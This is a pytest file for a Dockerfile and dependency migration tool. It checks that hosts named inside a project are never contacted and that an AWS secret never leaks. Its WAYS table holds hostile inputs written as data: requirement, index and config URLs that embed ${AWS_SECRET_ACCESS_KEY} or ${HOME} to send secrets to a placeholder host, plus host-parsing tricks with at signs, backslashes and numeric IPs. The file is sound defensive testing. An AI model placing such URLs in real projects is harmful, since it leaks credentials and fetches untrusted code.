"""No word of a project makes pydock ask a host, and no variable of this machine leaves it."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from pydock.hosts import PUBLIC
from pydock.resolve import Resolver
from tests.command_line import Runner
from tests.hostile.listener import Listener, listening
from tests.package_index import Distribution, Index, serving

SECRET = "wJalrXUtnFEMIbPxRfiCYEXAMPLEKEY77"
BASE = "FROM python:3.11.7-slim-bookworm\nWORKDIR /app\n"
LIST = f"{BASE}COPY . .\nRUN pip install -r requirements.txt\nCMD python app.py\n"


def _list(text: str, **files: str) -> dict[str, str]:
    return {"Dockerfile": LIST, "requirements.txt": f"{text}\nshop\n", **files}


def _file(*lines: str, **files: str) -> dict[str, str]:
    return {"Dockerfile": BASE + "".join(f"{line}\n" for line in lines), "requirements.txt": "shop\n", **files}


def _local(name: str, text: str) -> dict[str, str]:
    return {"Dockerfile": f"{BASE}COPY . .\nRUN pip install .\nCMD python app.py\n", name: text}


INSTALL = "RUN pip install -r requirements.txt"
# HOST stands for the listener's address, PORT for its port.
WAYS: Mapping[str, dict[str, str]] = {
    "an address": _list("foo @ http://HOST/x-1.0-py3-none-any.whl"),
    "an address without a name": _list("http://HOST/x-1.0-py3-none-any.whl"),
    "an address with a secret": _list("foo @ http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"),
    "a bare address with a secret": _list("http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"),
    "an address with the home folder": _list("foo @ http://HOST/${HOME}/x-1.0-py3-none-any.whl"),
    "a repository": _list("foo @ git+http://HOST/x.git"),
    "a repository without a name": _list("git+http://HOST/x.git#egg=foo"),
    "a repository with a secret": _list("foo @ git+http://HOST/${AWS_SECRET_ACCESS_KEY}.git@main"),
    "a repository by git's own protocol": _list("git+git://HOST/x.git#egg=foo"),
    "a repository by ssh": _list("foo @ git+ssh://git@HOST/x.git"),
    "a working copy": _list("-e git+http://HOST/x.git#egg=foo"),
    "a host before the at sign": _list(f"foo @ http://{PUBLIC.host}@HOST/x-1.0-py3-none-any.whl"),
    "a host behind a backslash": _list(f"foo @ http://HOST\\@{PUBLIC.host}/x-1.0-py3-none-any.whl"),
    "two backslashes": _list("foo @ http:\\\\HOST/x-1.0-py3-none-any.whl"),
    "an address without slashes": _list("foo @ http:HOST/x-1.0-py3-none-any.whl"),
    "a number for a host": _list("foo @ http://2130706433:PORT/x-1.0-py3-none-any.whl"),
    "a short number for a host": _list("foo @ http://127.1:PORT/x-1.0-py3-none-any.whl"),
    "a name of this machine": _list("foo @ http://localhost:PORT/x-1.0-py3-none-any.whl"),
    "an index": _list("--index-url http://HOST/simple"),
    "an index with a secret": _list("--index-url http://HOST/${AWS_SECRET_ACCESS_KEY}/simple"),
    "another index": _list("--extra-index-url http://HOST/simple"),
    "a page of links": _list("--find-links http://HOST/links"),
    "an included list": _list("-r more.txt", **{"more.txt": "foo @ http://HOST/x-1.0-py3-none-any.whl\n"}),
    "a constraint": _list("-c bound.txt", **{"bound.txt": "shop @ http://HOST/x-1.0-py3-none-any.whl\n"}),
    "a constraint with a secret": _list(
        "-c bound.txt", **{"bound.txt": "shop @ http://HOST/${AWS_SECRET_ACCESS_KEY}/shop-1.0-py3-none-any.whl\n"}
    ),
    "a constraint of the install": _file(
        "COPY . .", f"{INSTALL} -c bound.txt", **{"bound.txt": "shop @ http://HOST/x-1.0-py3-none-any.whl\n"}
    ),
    "an option of the install": _file("COPY . .", f"{INSTALL} -i http://HOST/simple"),
    "an ENV of the index": _file("ENV PIP_INDEX_URL=http://HOST/simple", "COPY . .", INSTALL),
    "an ARG of the index": _file("ARG PIP_EXTRA_INDEX_URL=http://HOST/simple", "COPY . .", INSTALL),
    "an ENV of a page of links": _file("ENV PIP_FIND_LINKS=http://HOST/links", "COPY . .", INSTALL),
    "a variable of one install": _file("COPY . .", INSTALL.replace("pip", "PIP_INDEX_URL=http://HOST/simple pip")),
    "an ENV of uv": _file(
        "RUN pip install uv", "ENV UV_INDEX_URL=http://HOST/simple", "COPY . .",
        "RUN uv pip install --system -r requirements.txt",
    ),
    "pip config set": _file("RUN pip config set global.index-url http://HOST/simple", "COPY . .", INSTALL),
    "a pip.conf": _file(
        "COPY pip.conf /etc/pip.conf", "COPY . .", INSTALL, **{"pip.conf": "[global]\nindex-url = http://HOST/simple\n"}
    ),
    "a pyproject.toml": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop", "foo @ http://HOST/x-1.0-py3-none-any.whl"]\n',
    ),
    "a pyproject.toml with a secret": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\n'
        'dependencies = ["shop", "foo @ http://HOST/${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl"]\n',
    ),
    "an index of uv in pyproject.toml": _local(
        "pyproject.toml",
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["shop"]\n'
        '[[tool.uv.index]]\nurl = "http://HOST/simple"\ndefault = true\n',
    ),
    "a source of Poetry": _local(
        "pyproject.toml",
        '[tool.poetry]\nname = "a"\nversion = "1"\n[tool.poetry.dependencies]\nshop = "*"\n'
        'foo = {url = "http://HOST/x-1.0-py3-none-any.whl"}\n[[tool.poetry.source]]\nname = "x"\nurl = "http://HOST/simple"\n',
    ),
    "a setup.cfg": _local(
        "setup.cfg",
        "[metadata]\nname = a\n[options]\ninstall_requires =\n  shop\n  foo @ http://HOST/${HOME}/x-1.0-py3-none-any.whl\n",
    ),
    "a uv.toml of the project": _list("shop", **{"uv.toml": 'index-url = "http://HOST/simple"\n'}),
}  # fmt: skip


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as started:
        yield started


@pytest.fixture(scope="module")
def index() -> Iterator[Index]:
    """The index of the person's own settings."""
    with serving(Distribution("shop", "1.0")) as started:
        yield started


@pytest.fixture(autouse=True)
def machine(index: Index, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> None:
    for name in [name for name in os.environ if name.startswith(("UV_", "PIP_", "PYDOCK_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "uv"))
    monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
    monkeypatch.setattr("pydock.resolve.THIS_RUN", Resolver())


def _written(folder: Path, files: Mapping[str, str], listener: Listener) -> None:
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text.replace("HOST", listener.address).replace("PORT", str(listener.port)))


@pytest.mark.parametrize("files", WAYS.values(), ids=WAYS)
def test_a_host_of_the_project_hears_not_a_byte(
    files: Mapping[str, str], listener: Listener, folder: Path, run: Runner
) -> None:
    _written(folder / "svc", files, listener)
    done = run("fix", "--diff", "--unsafe-fixes", "svc")
    assert done.code in {0, 1}, done.err
    assert not listener.heard
    assert SECRET not in done.out + done.err


def test_a_whole_migration_asks_none_of_them_and_prints_no_secret(
    listener: Listener, folder: Path, run: Runner
) -> None:
    for at, files in enumerate(WAYS.values()):
        _written(folder / f"service{at}", files, listener)
    done = run("migrate", ".", "--out", "out")
    assert done.code == 1, done.err
    assert not listener.heard
    written = "".join(
        path.read_text() for path in (folder / "out").rglob("*") if path.suffix in {".jsonl", ".md", ".html"}
    )
    assert "service0" in written
    assert SECRET not in written + done.out + done.err


@pytest.mark.parametrize("variable", ["", "PYDOCK_ALLOW_HOSTS"], ids=["on the command line", "in the environment"])
def test_what_a_person_allows_is_asked_and_said_once_before(
    variable: str, listener: Listener, folder: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    refused = run("fix", "--diff", "svc")
    assert f"only the project names {listener.address}" in refused.err
    assert f"--allow-hosts {listener.address}" in refused.err
    if variable:
        monkeypatch.setenv(variable, listener.address)
    run("fix", "--diff", "svc", *(() if variable else ("--allow-hosts", listener.address)))
    assert listener.heard
    assert listener.heard[0].startswith(b"GET /simple/shop/")


def test_the_index_of_the_machine_is_named_before_it_is_asked(
    index: Index, listener: Listener, folder: Path, run: Runner
) -> None:
    for name in ("one", "two"):
        _written(folder / name, _list("shop"), listener)
    done = run("fix", "--diff", ".")
    assert done.err.count(f"note: {index.url.split('/')[2]} is asked about packages\n") == 1
    assert "+shop==1.0" in done.out


@pytest.mark.parametrize("name", ["pydock.toml", "pyproject.toml"])
def test_a_project_cannot_allow_itself(name: str, listener: Listener, folder: Path, run: Runner) -> None:
    head = "" if name == "pydock.toml" else "[tool.pydock]\n"
    said = {name: f'{head}allow-hosts = ["{listener.address}"]\n'}
    _written(folder / "svc", _list("--index-url http://HOST/simple", **said), listener)
    done = run("fix", "--diff", "svc")
    assert done.code == 2
    assert "allow-hosts is not for a project to say" in done.err
    assert not listener.heard


def test_a_file_of_the_person_allows(
    listener: Listener, folder: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "config/pydock").mkdir(parents=True)
    (folder / "config/pydock/pydock.toml").write_text(f'allow-hosts = ["{listener.address}"]\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "config"))
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    run("fix", "--diff", "svc")
    assert listener.heard


def test_a_page_of_results_is_asked_again_once_a_host_is_allowed(listener: Listener, folder: Path, run: Runner) -> None:
    _written(folder / "svc", _list("--index-url http://HOST/simple"), listener)
    run("migrate", "svc", "--out", "out")
    (row,) = map(json.loads, (folder / "out/results.jsonl").read_text().splitlines())
    assert f"--allow-hosts {listener.address}" in json.dumps(row)
    assert not listener.heard
    run("migrate", "svc", "--out", "out", "--allow-hosts", listener.address)
    assert listener.heard
